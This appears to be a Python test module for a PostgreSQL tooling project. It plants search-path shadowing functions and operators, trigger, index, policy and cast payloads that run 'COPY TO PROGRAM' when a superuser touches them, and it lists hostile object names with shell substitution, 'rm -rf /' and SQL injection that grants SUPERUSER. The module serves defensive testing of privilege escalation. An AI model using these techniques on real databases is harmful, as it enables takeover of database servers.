"""What an application can plant in its own database, so that whoever enters it with more rights does its will.

Everything here is done by `dastern_user`, with the rights that provisioning gives. What is planted calls `evil.spring`,
which leaves a file in /tmp of the server's container if it runs, or can make itself run, as a superuser. A rollback
doesn't take that back.
"""

from __future__ import annotations

import ast
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg

SOURCES = Path(__file__).resolve().parents[2] / "plugins" / "module_utils" / "dastern"
MARKER = "/tmp/sprung-"
PATH = "evil, public, pg_catalog"
"""The search path that the application gives its database: whatever names aren't qualified are its own."""

_SQL = re.compile(r"\b(?:SELECT|WHERE|ALTER|LOCK|INSERT|UPDATE|COPY)\b")
_LITERAL = re.compile(r"'(?:[^']|'')*'")
_CALLED = re.compile(r"(?<![.\w])(?:pg_catalog\.)?([a-z_][a-z0-9_]*)\(")
_OPERATOR = re.compile(r"(?<=[\w)\]' ])(?:pg_catalog\.)?([-+*/<>=~!@#%^&|]+)(?=[\w(' $\\])")
GRAMMAR = {"coalesce", "extract", "greatest", "least", "nullif"}
"""What looks like a function and is PostgreSQL's grammar: nobody can take its place."""
OTHERWISE = {"a", "ask", "c", "keep", "%%", "--", "=>"}
"""What looks like a function or an operator and is an alias, an argument, a comment, a word."""


def _statements() -> Iterator[str]:
    """Every string in the code that has SQL in it, its literals emptied."""
    for path in sorted(SOURCES.rglob("*.py")):
        tree = ast.parse(path.read_text("utf-8"))
        prose = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Expr)}
        for node in ast.walk(tree):
            if not isinstance(node, ast.Constant) or not isinstance(node.value, str) or id(node) in prose:
                continue
            if _SQL.search(node.value):
                yield _LITERAL.sub("''", node.value)


def called_names() -> list[str]:
    """The functions that our SQL calls."""
    return sorted({name for text in _statements() for name in _CALLED.findall(text)} - GRAMMAR - OTHERWISE)


def used_operators() -> list[str]:
    return sorted({name for text in _statements() for name in _OPERATOR.findall(text)} - OTHERWISE)


SPRING = f"""
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.spring(tag text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  -- Where a superuser only changed its role, this is the way back.
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  IF EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user AND rolsuper) THEN
    EXECUTE pg_catalog.format('COPY (SELECT) TO PROGRAM %L', pg_catalog.concat('cat > {MARKER}', tag));
  END IF;
END $$;
CREATE FUNCTION evil.same(tag text, x anyelement) RETURNS anyelement IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM evil.spring(tag); RETURN x; END $$;
CREATE FUNCTION evil.yes(tag text, x text) RETURNS bool IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM evil.spring(tag); RETURN true; END $$;
CREATE FUNCTION evil.triggered() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM evil.spring(TG_ARGV[0]); RETURN NEW; END $$;
"""

_FUNCTIONS = """
SELECT p.proname, p.prokind::text, p.proretset, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid),
  p.provariadic <> 0, ARRAY(SELECT format_type(t, NULL) FROM unnest(p.proargtypes) WITH ORDINALITY AS u (t, n) ORDER BY n)
FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY (%s) ORDER BY p.oid
"""
_OPERATORS = """
SELECT o.oprname, CASE WHEN o.oprleft <> 0 THEN format_type(o.oprleft, NULL) END, format_type(o.oprright, NULL),
  format_type(o.oprresult, NULL)
FROM pg_operator o WHERE o.oprname = ANY (%s) AND o.oprnamespace = 'pg_catalog'::regnamespace
  AND o.oprright = ANY (%s::regtype[]) AND (o.oprleft = 0 OR o.oprleft = ANY (%s::regtype[]))
"""
_OPERANDS = (
    "bool",
    '"char"',
    "name",
    "text",
    "oid",
    "int4",
    "int8",
    "numeric",
    "timestamptz",
    "pg_lsn",
    "anyarray",
    "bit",
    "point",
)
# Pairs that PostgreSQL has no operator of its own for, each nearer to what our SQL writes than the one that it would take.
_NEARER = [
    ("name", "varchar"), ("varchar", "varchar"), ("oid", "int4"), ("oid", "regclass"), ("regclass", "regclass"), ("text", "varchar"),
    ('"char"', "varchar"),
]  # fmt: skip
_NEARER_TYPES = {
    "text": ["name", "varchar"], "name": ["varchar"], "oid": ["regclass", "int4"], '"any"': ["name", "text"],
    "anyelement": ["name", "text"], "anyarray": ["name[]", "text[]"], "bigint": ["int4"], "integer": ["int2"],
}  # fmt: skip
_VALUES = {
    "anyelement": "text", "anyarray": "text[]", "anycompatible": "text", "anycompatiblearray": "text[]", "anyrange": "int4range",
    "anymultirange": "int4multirange", "anynonarray": "text", "anyenum": "text", '"any"': "text",
}  # fmt: skip


_ENOUGH = 6
"""Signatures of one name; with all of them each pg_dump takes its time."""


def tag(kind: str, name: str) -> str:
    """How an attack is called in the name of its marker."""
    return f"{kind}-{name if name.isidentifier() else name.encode().hex()}"


class Planter:
    """Plants names, and keeps the statement by which each of them is shown to be called."""

    def __init__(self, connection: psycopg.Connection[Any]) -> None:
        self._connection = connection
        operators = used_operators()
        # Read before anything is planted, else the planter's own queries meet it.
        self._functions = connection.execute(_FUNCTIONS, (called_names(),)).fetchall()
        self._operators = connection.execute(_OPERATORS, (operators, list(_OPERANDS), list(_OPERANDS))).fetchall()
        self._number = 0
        self.calls: list[str] = []
        """The statements that call what is planted by its bare name."""

    def same(self) -> None:
        """Plant what has the very signatures of PostgreSQL's own, in a schema that the search path names before it."""
        seen: Counter[str] = Counter()
        for name, kind, many, arguments, result, _, types in self._functions:
            seen[name] += 1
            if seen[name] > _ENOUGH:
                continue
            if kind == "a":
                self._aggregate(name, types)
            else:
                self._function("evil", name, arguments, result, types, many)
        for name, left, right, result in self._operators:
            self._operator("evil", name, left, right, result)

    def nearer(self) -> None:
        """Plant in `public` what fits the arguments better than PostgreSQL's own: it wins whatever comes first in the path."""
        for name, kind, many, _, result, variadic, types in self._functions:
            if kind == "a":
                continue
            signatures = [
                [*types[:place], other, *types[place + 1 :]]
                for place, one in enumerate(types)
                for other in _NEARER_TYPES.get(one, ())
            ]
            signatures += [
                [other if one == given else one for one in types]
                for given, others in _NEARER_TYPES.items()
                for other in others
                if types.count(given) > 1
            ]
            if variadic:
                signatures += [
                    [*types[:-1], *[other] * number] for number in (1, 2, 3, 4) for other in ("text", "name")
                ]
            for one in signatures[:_ENOUGH]:
                if '"any"' not in one:
                    self._function("public", name, ", ".join(one), result, one, many)
        for name in used_operators():
            for left, right in _NEARER:
                self._operator("public", name, left, right, "bool")

    def _try(self, sql: str) -> bool:
        try:
            self._connection.execute(sql)  # type: ignore[arg-type]
        except psycopg.Error:
            return False  # a type that only PostgreSQL itself can name
        return True

    def _function(self, schema: str, name: str, arguments: str, result: str, types: list[str], many: bool) -> None:
        given = ", ".join(f"${number}" for number in range(1, len(types) + 1))
        real = f'pg_catalog."{name}"({given})'
        if "OUT " in arguments or result.startswith(("TABLE", "SETOF")):
            value = f"RETURN QUERY SELECT * FROM {real};" if many else "RETURN;"
        else:
            value = f"PERFORM {real};" if result == "void" else f"RETURN {real};"
        made = self._try(
            f'CREATE FUNCTION {schema}."{name}"({arguments}) RETURNS {result} LANGUAGE plpgsql AS '
            f"$$ BEGIN PERFORM evil.spring('{tag('function', name)}'); {value} END $$"
        )
        if made:
            self._call(f'"{name}"', types)

    def _aggregate(self, name: str, types: list[str]) -> None:
        polymorphic = iter(["text"])
        known = [next(polymorphic, "anyelement") if one == '"any"' else one for one in types]
        self._try(
            f'CREATE FUNCTION evil."{name}_step"(text{"".join(f", {one}" for one in known)}) RETURNS text LANGUAGE plpgsql AS '
            f"$$ BEGIN PERFORM evil.spring('{tag('function', name)}'); RETURN $1; END $$"
        )
        if self._try(
            f'CREATE AGGREGATE evil."{name}"({", ".join(known) or "*"}) (SFUNC = evil."{name}_step", STYPE = text)'
        ):
            self._call(f'"{name}"', known, "*")

    def _call(self, name: str, types: list[str], none: str = "") -> None:
        values = ", ".join(f"NULL::{_VALUES.get(one, one)}" for one in types) or none
        self.calls.append(f"SELECT {name}({values})")

    def _operator(self, schema: str, name: str, left: str | None, right: str, result: str) -> None:
        self._number += 1
        both = [one for one in (left, right) if one]
        places = [f"${place}" for place in range(1, len(both) + 1)]
        real = f"{places[0] if left else ''} OPERATOR(pg_catalog.{name}) {places[-1]}" if schema == "evil" else "true"
        self._try(
            f"CREATE FUNCTION evil.operator_{self._number}({', '.join(both)}) RETURNS {result} LANGUAGE plpgsql AS "
            f"$$ BEGIN PERFORM evil.spring('{tag('operator', name)}'); RETURN {real}; END $$"
        )
        operands = (f"LEFTARG = {left}, " if left else "") + f"RIGHTARG = {right}"
        if self._try(f"CREATE OPERATOR {schema}.{name} (FUNCTION = evil.operator_{self._number}, {operands})"):
            shown = [f"NULL::{_VALUES.get(one, one)}" for one in both]
            self.calls.append(f"SELECT {shown[0] if left else ''} {name} {shown[-1]}")


CODE = {
    "check": (
        "CREATE TABLE trap.by_check (id int PRIMARY KEY, x text CHECK (evil.yes('check', x)))",
        "INSERT INTO trap.by_check VALUES (3, 'c')",
    ),
    "domain": (
        "CREATE DOMAIN trap.checked AS text CHECK (evil.yes('domain', VALUE));"
        "CREATE TABLE trap.by_domain (id int PRIMARY KEY, x trap.checked)",
        "INSERT INTO trap.by_domain VALUES (3, 'c')",
    ),
    "index": (
        "CREATE TABLE trap.by_index (id int PRIMARY KEY, x text);"
        "CREATE INDEX ON trap.by_index ((evil.same('index', x)))",
        "INSERT INTO trap.by_index VALUES (3, 'c')",
    ),
    "predicate": (
        "CREATE TABLE trap.by_predicate (id int PRIMARY KEY, x text);"
        "CREATE INDEX ON trap.by_predicate (x) WHERE evil.yes('predicate', x)",
        "INSERT INTO trap.by_predicate VALUES (3, 'c')",
    ),
    "exclusion": (
        "CREATE TABLE trap.by_exclusion (id int PRIMARY KEY, x text, EXCLUDE USING btree ((evil.same('exclusion', x)) WITH =))",
        "INSERT INTO trap.by_exclusion VALUES (3, 'c')",
    ),
    "generated": (
        "CREATE TABLE trap.by_generated (id int PRIMARY KEY, x text, "
        "y text GENERATED ALWAYS AS (evil.same('generated', x)) STORED)",
        "INSERT INTO trap.by_generated VALUES (3, 'c')",
    ),
    "default": (
        "CREATE TABLE trap.by_default (id int PRIMARY KEY, x text, y text DEFAULT evil.same('default', 'y'::text))",
        "INSERT INTO trap.by_default (id, x) VALUES (3, 'c')",
    ),
    "statistics": (
        "CREATE TABLE trap.by_statistics (id int PRIMARY KEY, x text);"
        "CREATE STATISTICS trap.expressed ON (evil.same('statistics', x)) FROM trap.by_statistics",
        # As whoever owns the table: a restore without owners.
        "ALTER TABLE trap.by_statistics OWNER TO postgres; ANALYZE trap.by_statistics",
    ),
    "owner": (
        "CREATE FUNCTION evil.take(x text) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN IF current_database() ~ '_scratch_' "
        "AND to_regproc('public.of_superuser') IS NOT NULL THEN "
        "EXECUTE $e$CREATE OR REPLACE FUNCTION public.of_superuser() RETURNS void SECURITY DEFINER LANGUAGE plpgsql AS "
        "$b$ BEGIN PERFORM evil.spring('owner'); END $b$ $e$; END IF; RETURN true; END $f$;"
        "CREATE FUNCTION evil.given() RETURNS void SECURITY DEFINER LANGUAGE plpgsql AS "
        "$b$ BEGIN PERFORM evil.spring('owner'); END $b$;"
        "CREATE TABLE trap.by_owner (id int PRIMARY KEY, x text CHECK (evil.take(x)))",
        "ALTER FUNCTION evil.given() OWNER TO postgres; SET ROLE dastern_user; SELECT evil.given()",
    ),
    "partition": (
        "CREATE TABLE trap.parts (id int, x text) PARTITION BY LIST ((evil.same('partition', x)));"
        "CREATE TABLE trap.by_partition PARTITION OF trap.parts FOR VALUES IN ('a', 'b', 'c')",
        "INSERT INTO trap.by_partition VALUES (3, 'c')",
    ),
    "planned_predicate": (
        "CREATE TABLE trap.by_planned_predicate (id int PRIMARY KEY, x text);"
        "CREATE INDEX ON trap.by_planned_predicate (x) WHERE evil.yes('planned_predicate', '')",
        "SELECT count(*) FROM trap.by_planned_predicate",
    ),
    "planned_index": (
        "CREATE TABLE trap.by_planned_index (id int PRIMARY KEY, x text);"
        "CREATE INDEX ON trap.by_planned_index ((evil.same('planned_index', ''::text)))",
        "SELECT count(*) FROM trap.by_planned_index",
    ),
    "planned_statistics": (
        "CREATE TABLE trap.by_planned_statistics (id int PRIMARY KEY, x text);"
        "CREATE STATISTICS trap.planned ON (evil.same('planned_statistics', ''::text)), x FROM trap.by_planned_statistics",
        "SELECT count(*) FROM trap.by_planned_statistics",
    ),
    "planned_check": (
        "CREATE TABLE trap.by_planned_check (id int PRIMARY KEY, x text CHECK (evil.yes('planned_check', '')))",
        "SET constraint_exclusion = on; SELECT count(*) FROM trap.by_planned_check WHERE x = ''",
    ),
    "row_trigger": (
        "CREATE TABLE trap.by_row_trigger (id int PRIMARY KEY, x text);"
        "CREATE TRIGGER sprung BEFORE INSERT ON trap.by_row_trigger FOR EACH ROW EXECUTE FUNCTION evil.triggered('row_trigger')",
        "INSERT INTO trap.by_row_trigger VALUES (3, 'c')",
    ),
    "statement_trigger": (
        "CREATE TABLE trap.by_statement_trigger (id int PRIMARY KEY, x text);"
        "CREATE TRIGGER sprung AFTER INSERT ON trap.by_statement_trigger FOR EACH STATEMENT "
        "EXECUTE FUNCTION evil.triggered('statement_trigger')",
        "INSERT INTO trap.by_statement_trigger VALUES (3, 'c')",
    ),
    "rule": (
        "CREATE TABLE trap.by_rule (id int PRIMARY KEY, x text);"
        "CREATE RULE sprung AS ON INSERT TO trap.by_rule DO ALSO SELECT evil.spring('rule')",
        "INSERT INTO trap.by_rule VALUES (3, 'c')",
    ),
    "policy": (
        "CREATE TABLE trap.by_policy (id int PRIMARY KEY, x text); ALTER TABLE trap.by_policy ENABLE ROW LEVEL SECURITY;"
        "ALTER TABLE trap.by_policy FORCE ROW LEVEL SECURITY;"
        "CREATE POLICY sprung ON trap.by_policy USING (evil.yes('policy', x))",
        "SET ROLE dastern_user; SELECT * FROM trap.by_policy",
    ),
    "set_role": (
        "CREATE TABLE trap.by_set_role (id int PRIMARY KEY, x text CHECK (evil.yes('set_role', x)))",
        "SET ROLE dastern_user; INSERT INTO trap.by_set_role VALUES (3, 'c')",
    ),
    "view": (
        "CREATE TABLE trap.by_view (id int PRIMARY KEY, x text);"
        "CREATE VIEW trap.shown AS SELECT evil.same('view', x) FROM trap.by_view",
        "SELECT * FROM trap.shown",
    ),
    "materialised_view": (
        "CREATE TABLE trap.by_materialised_view (id int PRIMARY KEY, x text);"
        "CREATE MATERIALIZED VIEW trap.stored AS SELECT evil.same('materialised_view', x) FROM trap.by_materialised_view",
        "ALTER MATERIALIZED VIEW trap.stored OWNER TO postgres; REFRESH MATERIALIZED VIEW trap.stored",
    ),
    "cast": (
        "CREATE TYPE trap.word AS (x text);"
        "CREATE FUNCTION evil.as_text(trap.word) RETURNS text LANGUAGE plpgsql AS "
        "$$ BEGIN PERFORM evil.spring('cast'); RETURN ($1).x; END $$;"
        "CREATE CAST (trap.word AS text) WITH FUNCTION evil.as_text(trap.word) AS IMPLICIT;"
        "CREATE TABLE trap._prisma_migrations (migration_name trap.word, checksum trap.word, started_at timestamptz DEFAULT now(),"
        " finished_at timestamptz DEFAULT now(), rolled_back_at timestamptz);"
        "INSERT INTO trap._prisma_migrations VALUES (ROW('a'), ROW('b'))",
        "SELECT checksum::text FROM trap._prisma_migrations",
    ),
}
"""Code in a table, by what evaluates it: what plants it, and by which statement a superuser springs it."""

BY_RESTORE = (
    "check", "domain", "index", "predicate", "exclusion", "generated", "statistics", "partition", "set_role", "materialised_view",
)  # fmt: skip
"""Those that a restore evaluates."""


def plant_code(connection: psycopg.Connection[Any]) -> None:
    connection.execute("CREATE SCHEMA trap")
    for name, (made, _) in CODE.items():
        if name != "cast":
            connection.execute(made)  # type: ignore[arg-type]
            connection.execute(f"INSERT INTO trap.by_{name} (id, x) VALUES (1, 'a'), (2, 'b')")  # type: ignore[arg-type]
    connection.execute("REFRESH MATERIALIZED VIEW trap.stored")


def plant_ledger(connection: psycopg.Connection[Any]) -> None:
    """A second ledger, whose columns have a type with a cast."""
    connection.execute(CODE["cast"][0])  # type: ignore[arg-type]


SHELL = "$(touch /tmp/sprung-name-sh)`touch /tmp/sprung-name-tick`"
NAMES = {
    "newline": "a\nb",
    "forged line": "x\n  next         rm -rf /",
    "return": "a\rb",
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "eight bit escape": "\x9b31mred",
    "right to left": "safe\u202egnp.exe",
    "line separator": "a\u2028b\x0bc\x0cd\x1ce\x85f",
    "entry of a list": "x\n1; 1259 1 TABLE public y dastern_user",
    "mark": "x\ndas-tern: dumped\ny",
    "end of data": "x\n\\.\ny",
    "statement": 'x"; ALTER ROLE dastern_user SUPERUSER; --',
    "literal": "x'; ALTER ROLE dastern_user SUPERUSER; --",
    "shell": SHELL,
    "percent": "%s%n%(x)s{0}{x!r}",
    "variable of psql": ":'x':\"y\":z",
    "command of psql": "\n\\! touch /tmp/sprung-name-psql\n",
    "backslashes": "\\\\'\\",
    "longest": "ថ្នាំ" * 4 + "abc",
    "option": "--help",
    "connection": "host=192.0.2.1 dbname=x",
    "blank": " ",
}
"""Names for tables, schemas and columns; each is one that a careless tool takes for something else."""


def plant_names(connection: psycopg.Connection[Any]) -> None:
    for name in NAMES.values():
        quoted = '"' + name.replace('"', '""') + '"'
        connection.execute(f"CREATE SCHEMA {quoted}")  # type: ignore[arg-type]
        for schema in ("public", quoted):
            connection.execute(f"CREATE TABLE {schema}.{quoted} ({quoted} int PRIMARY KEY)")  # type: ignore[arg-type]
            connection.execute(f"INSERT INTO {schema}.{quoted} VALUES (1), (2)")  # type: ignore[arg-type]


_MINE = """
SELECT name, vartype, boot_val, min_val, max_val, enumvals FROM pg_settings WHERE context = 'user' ORDER BY name
"""
SETTINGS = {
    "role": "dastern_user", "search_path": PATH, "client_encoding": "LATIN1",
    "DateStyle": "SQL, DMY", "TimeZone": "Asia/Phnom_Penh", "statement_timeout": "1ms", "lock_timeout": "1ms",
    "transaction_timeout": "1ms", "idle_in_transaction_session_timeout": "1ms", "idle_session_timeout": "1ms",
    "default_transaction_isolation": "serializable", "default_transaction_read_only": "on",
    "default_transaction_deferrable": "on", "bytea_output": "escape", "extra_float_digits": "-15",
    "IntervalStyle": "iso_8601", "xmloption": "document", "local_preload_libraries": "nothing", "default_tablespace": "pg_default",
    "client_min_messages": "error", "jit": "on", "debug_parallel_query": "on", "vacuum_cost_delay": "100ms",
    "exit_on_error": "on", "array_nulls": "off", "transform_null_equals": "on", "standard_conforming_strings": "off", "quote_all_identifiers": "on",
    "row_security": "on", "backslash_quote": "on", "temp_tablespaces": "pg_default",
}  # fmt: skip
"""Settings whose worst value has to be told; of others it is the one that is farthest from PostgreSQL's own."""


def assigned(name: str, value: str) -> str:
    """A setting as `ALTER ... SET` takes it."""
    return f"{name} TO " + (value if name == "search_path" else f"'{value}'")


def hostile_settings(connection: psycopg.Connection[Any], database: str) -> list[str]:
    """Give the database, and the role in it, the worst of each setting that its owner may set; their names."""
    worst = dict(SETTINGS)
    for name, kind, boot, least, most, values in connection.execute(_MINE).fetchall():  # type: ignore[arg-type]
        if name in worst:
            continue
        if kind == "bool":
            worst[name] = "off" if boot == "on" else "on"
        elif kind == "enum":
            worst[name] = next(one for one in reversed(values) if one != boot)
        elif kind in ("integer", "real"):
            worst[name] = least if boot != least else most
    given = set()
    for name, value in worst.items():
        for of in (f'DATABASE "{database}"', f'ROLE dastern_user IN DATABASE "{database}"'):
            try:
                connection.execute(f"ALTER {of} SET {assigned(name, value)}")  # type: ignore[arg-type]
            except psycopg.Error:
                continue  # not its own to set
            given.add(name)
    return sorted(given)
